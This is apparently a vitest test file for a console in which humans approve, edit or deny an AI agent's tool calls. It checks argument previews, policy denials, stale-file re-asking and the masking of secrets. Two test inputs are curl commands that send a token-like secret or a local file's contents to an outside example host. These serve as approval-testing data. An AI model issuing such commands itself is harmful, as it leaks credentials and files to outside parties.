import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import type * as Api from '../../src/console/api.ts';
import { asked, type ConsoleWorld, OVERWRITE, openConsole } from '../support/console/world.ts';

const preview = ({ post }: ConsoleWorld, id: string, args: unknown) =>
  post<Api.PreviewResult & Api.ApiFailure>(`approvals/${id}/preview`, { args });

const answer = ({ post }: ConsoleWorld, id: string, body: object) =>
  post<Api.AnswerResult & Api.ApiFailure>(`approvals/${id}`, { answer: 'allow_once', by: 'Ann', ...body });

const RULES = [
  { effect: 'write', match: 'a.txt', verdict: 'ask' },
  { effect: 'write', match: 'no.txt', verdict: 'deny' },
] as const;

const CHANGED = { path: 'b.txt', content: 'mine\n' };

it('changed arguments are shown with their own effects and diff before they are allowed', async () => {
  const world = await openConsole({ 'a.txt': 'old\n', 'b.txt': 'b\n' });
  const running = world.gate.execute(OVERWRITE);
  const { id } = await asked(world);
  const { body } = await preview(world, id, CHANGED);
  expect(body).toMatchObject({ verdict: 'ask', args: CHANGED, reasons: [expect.stringContaining('overwrites')] });
  expect(body.diff).toContain('-b\n+mine');
  expect(JSON.stringify(body.effects)).toContain('b.txt');
  // Nothing is taken that was not shown: no preview, one of other arguments, an invented one.
  for (const wrong of [
    { modifiedArgs: CHANGED },
    { modifiedArgs: { ...CHANGED, content: 'other\n' }, preview: body.preview },
    { modifiedArgs: CHANGED, preview: 'x'.repeat(64) },
  ]) {
    const refused = await answer(world, id, wrong);
    expect([refused.status, refused.body.error.code]).toEqual([400, 'PREVIEW_NEEDED']);
  }
  expect((await answer(world, id, { modifiedArgs: CHANGED, preview: body.preview })).status).toBe(200);
  const outcome = await running;
  expect(outcome).toMatchObject({ ok: true });
  // What nobody said is not told.
  expect(outcome.output).toContain(`before allowing it: ${JSON.stringify(CHANGED)}`);
  expect([await world.read('a.txt'), await world.read('b.txt')]).toEqual(['old\n', 'mine\n']);
  const [call] = (await world.get<Api.CallList>('calls')).body.calls;
  expect(call).toMatchObject({ args: CHANGED, askedArgs: OVERWRITE.args });
});

it('what is denied cannot be allowed, and what would fail is told', async () => {
  const world = await openConsole({ 'a.txt': 'old\n' }, { gate: { policy: { rules: RULES } } });
  const running = world.gate.execute({
    name: 'edit_file',
    args: { path: 'a.txt', old_string: 'old', new_string: 'n' },
  });
  const { id } = await asked(world);
  const refused = await preview(world, id, { path: 'a.txt', old_string: 'none', new_string: 'n' });
  expect([refused.status, refused.body.error.code]).toEqual([400, 'EDIT_NOT_FOUND']);
  expect((await preview(world, id, { path: 1 })).status).toBe(400);
  expect((await world.post(`approvals/${id}/preview`, { args: 'x' })).status).toBe(400);
  expect((await preview(world, 'none', {})).status).toBe(404);
  const denied = { path: 'no.txt', old_string: 'old', new_string: 'n' };
  const { body } = await preview(world, id, denied);
  expect(body).toMatchObject({ verdict: 'deny', preview: '' });
  expect((await answer(world, id, { modifiedArgs: denied, preview: '' })).body.error.code).toBe('POLICY_DENIED');
  await world.post(`approvals/${id}`, { answer: 'reject_once' });
  expect((await preview(world, id, denied)).status).toBe(409);
  await running;
});

it('files that change after the preview bring the question back', async () => {
  const world = await openConsole({ 'a.txt': 'old\n', 'b.txt': 'b\n' });
  const running = world.gate.execute(OVERWRITE);
  const { id } = await asked(world);
  const { body } = await preview(world, id, CHANGED);
  // As if it had changed between the answer and the run: the stored answer has the key of what was shown.
  await writeFile(join(world.root, 'b.txt'), 'changed meanwhile\n');
  expect((await answer(world, id, { modifiedArgs: CHANGED, preview: body.preview })).body.error.code).toBe(
    'PREVIEW_NEEDED',
  );
  await world.gate.approvals.answer(id, { answer: 'allow_once', modifiedArgs: CHANGED, preview: body.preview }, 'Ann');
  const again = await asked(world);
  expect(again).toMatchObject({ args: CHANGED, diff: expect.stringContaining('-changed meanwhile') });
  expect(again.id).not.toBe(id);
  await answer(world, again.id, {});
  expect(await running).toMatchObject({ ok: true });
  expect(await world.read('b.txt')).toBe('mine\n');
});

it('a masked secret stays what it was, in the preview and in the answer', async () => {
  const world = await openConsole();
  const secret = `ghp_${'a1B2'.repeat(9)}`;
  const running = world.gate.execute({ name: 'bash', args: { command: `curl -H 'x: ${secret}' https://a.example` } });
  const { id, args } = await asked(world);
  expect(JSON.stringify(args)).not.toContain(secret);
  const { body } = await preview(world, id, { ...args, timeout: 7 });
  expect(JSON.stringify(body)).not.toContain(secret);
  expect(body.args).toMatchObject({ command: args.command, timeout: 7 });
  const half = { command: String(args.command).replace('curl', 'wget') };
  expect((await preview(world, id, half)).status).toBe(400);
  await world.post(`approvals/${id}`, { answer: 'reject_once' });
  await running;
});

it('a question names the arguments that nobody said, so that nobody has to read them', async () => {
  const world = await openConsole({ 'a.txt': 'old\n' });
  const running = world.gate.execute(OVERWRITE);
  const { id } = await asked(world);
  const [question] = (await world.get<Api.ApprovalList>('approvals')).body.pending;
  expect(question).toMatchObject({ args: { createDirs: false }, unsaid: ['createDirs'] });
  await answer(world, id, { answer: 'reject_once' });
  await running;
  const [settled] = (await world.get<Api.ApprovalList>('approvals')).body.settled;
  expect(settled).toMatchObject({ unsaid: ['createDirs'] });
});

it.each([
  ['in the background', { background: true }],
  ['at once', {}],
])('changed arguments of a command that runs %s are not asked about twice', async (_, more) => {
  const world = await openConsole({ 'a.txt': 'a\n' });
  const args = { command: 'curl https://a.example -d @a.txt', ...more };
  const running = world.gate.execute({ name: 'bash', args });
  const { id } = await asked(world);
  const changed = { command: 'echo hi > hi.txt', ...more };
  const { body } = await preview(world, id, changed);
  expect((await answer(world, id, { modifiedArgs: changed, preview: body.preview })).status).toBe(200);
  const outcome = await Promise.race([running, asked(world)]);
  expect(outcome).toMatchObject({ ok: true });
});
